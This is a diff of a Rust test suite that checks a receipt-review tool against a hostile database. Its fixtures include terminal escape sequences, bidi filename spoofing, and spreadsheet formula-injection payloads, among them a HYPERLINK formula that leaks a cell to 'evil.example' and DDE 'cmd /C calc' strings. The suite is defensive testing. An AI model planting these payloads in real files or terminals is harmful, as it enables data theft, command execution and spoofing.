@@ -25,8 +25,7 @@ use std::time::{Duration, Instant};
 
 use receipt_review::intake::canonical::{canonical_text, sha256_hex};
 use reliability_support::{
-    Pty, assert_clean_exit, check_screen_bytes, human_text, inspect, spawn_bin, stderr,
-    wait_output,
+    Pty, assert_clean_exit, check_screen_bytes, human_text, inspect, spawn_bin, stderr, wait_output,
 };
 use rusqlite::{Connection, params};
 use serde_json::{Value, json};
@@ -56,33 +55,48 @@ fn corpus() -> Vec<(&'static str, String)> {
         ("csi-modes", s("\x1b[?1049l\x1b[?25l\x1b[?1000h\x1b[8m")),
         ("csi-window", s("\x1b[8;1;1t\x1b[3;9999;9999t")),
         ("c1-csi", s("\u{9b}31mred\u{9b}0m")),
-        ("c1-osc-dcs", s("\u{9d}0;c1 title\u{9c}\u{90}q\u{9c}\u{85}\u{8d}")),
+        (
+            "c1-osc-dcs",
+            s("\u{9d}0;c1 title\u{9c}\u{90}q\u{9c}\u{85}\u{8d}"),
+        ),
         ("bidi-override", s("invoice\u{202e}fdp.exe\u{202c}")),
-        ("bidi-isolate", s("\u{2066}admin\u{2069}\u{2067}x\u{2069}\u{200f}\u{061c}")),
+        (
+            "bidi-isolate",
+            s("\u{2066}admin\u{2069}\u{2067}x\u{2069}\u{200f}\u{061c}"),
+        ),
         (
             "zero-width",
             s("pa\u{200b}y\u{200c}p\u{200d}a\u{2060}l\u{feff}\u{e0041}"),
         ),
         ("cr-overwrite", s("paid in full\rUNPAID      ")),
-        ("bs-overwrite", s("approved\x08\x08\x08\x08\x08\x08\x08\x08denied  ")),
+        (
+            "bs-overwrite",
+            s("approved\x08\x08\x08\x08\x08\x08\x08\x08denied  "),
+        ),
         ("del-nul", s("del\x7fnul\0after")),
         ("bell-vt-ff", s("bell\x07vt\x0bff\x0c")),
         ("line-separators", s("one\u{2028}two\u{2029}three")),
         ("newlines", s("first line\nsecond line\r\nthird")),
         ("tabs", s("a\tb\t\tc")),
-        ("formula", s("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")")),
+        (
+            "formula",
+            s("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"),
+        ),
         ("formula-plus", s("+cmd|' /C calc'!A0")),
         ("formula-minus", s("-2+3+cmd|' /C calc'!A0")),
         ("formula-at", s("@SUM(1+1)*cmd|' /C calc'!A0")),
         ("formula-tab", s("\t=1+1")),
         ("formula-cr", s("\r=1+1")),
-        ("zalgo", format!("z{}a{}", "\u{301}".repeat(60), "\u{316}".repeat(60))),
+        (
+            "zalgo",
+            format!("z{}a{}", "\u{301}".repeat(60), "\u{316}".repeat(60)),
+        ),
         ("wide", s("全角＝１＋１　お問い合わせ")),
     ]
 }
 
 /// Everything a person should see instead of the raw characters somewhere.
-const VISIBLE: [&str; 3] = ["\\x1b]0;pwned\\x07", "\\u{202e}", "\\x9b31m"];
+const VISIBLE: [&str; 4] = ["\\x1b]0;pwned\\x07", "\\u{202e}", "\\u{2066}", "\\x9b31m"];
 
 struct Built {
     db: PathBuf,
@@ -110,7 +124,14 @@ fn insert_raw(
     conn.last_insert_rowid()
 }
 
-fn insert_json(conn: &Connection, scope: &str, key: &str, payload: &Value, at_ms: i64, state: &str) -> i64 {
+fn insert_json(
+    conn: &Connection,
+    scope: &str,
+    key: &str,
+    payload: &Value,
+    at_ms: i64,
+    state: &str,
+) -> i64 {
     let canon = canonical_text(&payload.to_string()).unwrap();
     let at = receipt_review::time::format_rfc3339(at_ms);
     insert_raw(conn, &scope, &key, &canon, &sha256_hex(&canon), state, &at)
@@ -147,7 +168,14 @@ fn hostile_db(dir: &Path) -> Built {
         // keys are all hostile.
         let at = next_time();
         let first = insert_json(&tx, &scope, &format!("k{i}a"), &payload, at, "completed");
-        insert_json(&tx, &scope, &format!("k{i}b{evil}"), &payload, at + 2500, "completed");
+        insert_json(
+            &tx,
+            &scope,
+            &format!("k{i}b{evil}"),
+            &payload,
+            at + 2500,
+            "completed",
+        );
         // A refused attempt with a different, hostile body.
         let attempt = json!({"message": format!("changed {evil}"), format!("{evil}"): evil});
         tx.execute(
@@ -192,7 +220,15 @@ fn hostile_db(dir: &Path) -> Built {
     }
     // Invalid UTF-8: a BLOB payload, a TEXT payload, a BLOB scope and key.
     let invalid: &[u8] = b"\xff\xfe\x1b[2J\x9b31m\xc3";
-    insert_raw(&tx, &"site/blob", &"blob1", &invalid, "d", "completed", &"2026-11-29T09:00:00Z");
+    insert_raw(
+        &tx,
+        &"site/blob",
+        &"blob1",
+        &invalid,
+        "d",
+        "completed",
+        &"2026-11-29T09:00:00Z",
+    );
     tx.execute(
         "INSERT INTO receipts (scope, request_key, digest, payload, created_at) \
          VALUES ('site/text', 'text1', 'd', CAST(?1 AS TEXT), '2026-11-29T09:00:01Z')",
@@ -205,7 +241,15 @@ fn hostile_db(dir: &Path) -> Built {
         params![invalid, sha256_hex("{}")],
     )
     .unwrap();
-    insert_raw(&tx, &invalid, &invalid, &"{\"a\":1}", "d", "in_flight", &"2026-11-29T09:00:03Z");
+    insert_raw(
+        &tx,
+        &invalid,
+        &invalid,
+        &"{\"a\":1}",
+        "d",
+        "in_flight",
+        &"2026-11-29T09:00:03Z",
+    );
     // Big: a 1 MB message (twice, edited at its end), 10,000 fields (twice),
     // nesting 100 deep (twice) and 10,000 deep (beyond any parser's limit).
     let big = format!("{} {}", "word ".repeat(200_000), corpus()[0].1);
@@ -221,19 +265,46 @@ fn hostile_db(dir: &Path) -> Built {
         );
     }
     let wide: serde_json::Map<String, Value> = (0..10_000)
-        .map(|i| (format!("f{i}\u{202e}"), Value::from(format!("v{i}\x1b[31m"))))
+        .map(|i| {
+            (
+                format!("f{i}\u{202e}"),
+                Value::from(format!("v{i}\x1b[31m")),
+            )
+        })
         .collect();
     let at = next_time();
     for k in ["wide1", "wide2"] {
-        insert_json(&tx, "site/wide", k, &Value::Object(wide.clone()), at, "completed");
+        insert_json(
+            &tx,
+            "site/wide",
+            k,
+            &Value::Object(wide.clone()),
+            at,
+            "completed",
+        );
     }
     let deep: Value = serde_json::from_str(&nested(100)).unwrap();
     let at = next_time();
     for k in ["deep1", "deep2"] {
-        insert_json(&tx, "site/deep", k, &json!({"name": "Deep", "tree": deep}), at, "completed");
+        insert_json(
+            &tx,
+            "site/deep",
+            k,
+            &json!({"name": "Deep", "tree": deep}),
+            at,
+            "completed",
+        );
     }
     let deeper = format!("{{\"tree\":{}}}", nested(10_000));
-    insert_raw(&tx, &"site/deeper", &"deeper", &deeper, &sha256_hex(&deeper), "completed", &"2026-11-29T09:00:04Z");
+    insert_raw(
+        &tx,
+        &"site/deeper",
+        &"deeper",
+        &deeper,
+        &sha256_hex(&deeper),
+        "completed",
+        &"2026-11-29T09:00:04Z",
+    );
     tx.commit().unwrap();
 
     // Decisions with hostile notes, through the real binary, and a row with a
@@ -245,7 +316,11 @@ fn hostile_db(dir: &Path) -> Built {
             "resolve",
             db.to_str().unwrap(),
             &format!("stuck:{}", 3 + i * 5),
-            if i % 2 == 0 { "failed" } else { "still_pending" },
+            if i % 2 == 0 {
+                "failed"
+            } else {
+                "still_pending"
+            },
             "--operator",
             "aiko",
             "--note",
@@ -266,7 +341,8 @@ fn hostile_db(dir: &Path) -> Built {
         .unwrap();
         notes.push(note);
     }
-    conn.execute_batch("PRAGMA wal_checkpoint(TRUNCATE);").unwrap();
+    conn.execute_batch("PRAGMA wal_checkpoint(TRUNCATE);")
+        .unwrap();
     Built { db, notes, scopes }
 }
 
@@ -309,7 +385,9 @@ fn starts_like_a_formula(cell: &str) -> bool {
 
 /// What a pseudo-terminal shows: the line discipline turns `\n` into `\r\n`.
 fn tty_text(bytes: &[u8]) -> Vec<u8> {
-    String::from_utf8_lossy(bytes).replace("\r\n", "\n").into_bytes()
+    String::from_utf8_lossy(bytes)
+        .replace("\r\n", "\n")
+        .into_bytes()
 }
 
 /// A command in a pseudo-terminal, as a person runs it: everything it wrote.
@@ -333,10 +411,18 @@ fn report_check_and_export_put_no_raw_control_character_where_a_person_reads() {
         (vec!["check", p, "--now", NOW], 1),
     ] {
         let o = run_timed(&args);
-        assert_eq!(assert_clean_exit(&o, &format!("{args:?}")), code, "{}", stderr(&o));
+        assert_eq!(
+            assert_clean_exit(&o, &format!("{args:?}")),
+            code,
+            "{}",
+            stderr(&o)
+        );
         human_text(&o.stdout).unwrap_or_else(|e| panic!("{args:?}: stdout {e}"));
         let text = String::from_utf8_lossy(&o.stdout);
-        assert!(text.contains("\\x1b"), "{args:?} shows nothing escaped:\n{text}");
+        assert!(
+            text.contains("\\x1b"),
+            "{args:?} shows nothing escaped:\n{text}"
+        );
     }
 
     // The JSON report: terminal-safe bytes that decode to the stored text.
@@ -351,9 +437,16 @@ fn report_check_and_export_put_no_raw_control_character_where_a_person_reads() {
         .filter_map(|g| g["scope"].as_str())
         .collect();
     for scope in &built.scopes {
-        assert!(scopes.contains(&scope.as_str()), "{scope:?} lost in {scopes:?}");
+        assert!(
+            scopes.contains(&scope.as_str()),
+            "{scope:?} lost in {scopes:?}"
+        );
     }
-    assert!(v["counts"]["damaged"].as_u64().unwrap() >= 60, "{}", v["counts"]);
+    assert!(
+        v["counts"]["damaged"].as_u64().unwrap() >= 60,
+        "{}",
+        v["counts"]
+    );
 
     // CSV: faithful through a CSV reader, never a formula.
     let o = run_timed(&["export", p, "--format", "csv"]);
@@ -367,8 +460,7 @@ fn report_check_and_export_put_no_raw_control_character_where_a_person_reads() {
             cells += 1;
             assert!(!starts_like_a_formula(cell), "a formula cell: {cell:?}");
         }
-        let note = &record[7];
-        csv_notes.push(note.strip_prefix('\'').filter(|n| starts_like_a_formula(n)).unwrap_or(note).to_string());
+        csv_notes.push(receipt_review::review::unquote_cell(&record[7]).to_string());
     }
     assert_eq!(csv_notes, built.notes);
 
@@ -379,7 +471,12 @@ fn report_check_and_export_put_no_raw_control_character_where_a_person_reads() {
     let jsonl_notes: Vec<String> = String::from_utf8(o.stdout)
         .unwrap()
         .lines()
-        .map(|l| serde_json::from_str::<Value>(l).unwrap()["note"].as_str().unwrap().to_string())
+        .map(|l| {
+            serde_json::from_str::<Value>(l).unwrap()["note"]
+                .as_str()
+                .unwrap()
+                .to_string()
+        })
         .collect();
     assert_eq!(jsonl_notes, built.notes);
 
@@ -413,7 +510,12 @@ fn the_screen_writes_only_harmless_sequences_for_hostile_data() {
     let dir = tempfile::tempdir().unwrap();
     let built = hostile_copy(dir.path());
     let p = built.db.to_str().unwrap();
-    let mut screen = Pty::spawn(&[p, "--operator", "aiko", "--now", NOW], 160, 48, dir.path());
+    let mut screen = Pty::spawn(
+        &[p, "--operator", "aiko", "--now", NOW],
+        160,
+        48,
+        dir.path(),
+    );
     screen.wait_for("dup:", Duration::from_secs(60));
     let mut seen = String::new();
     // Keys go in one write each (an escape sequence split over two writes
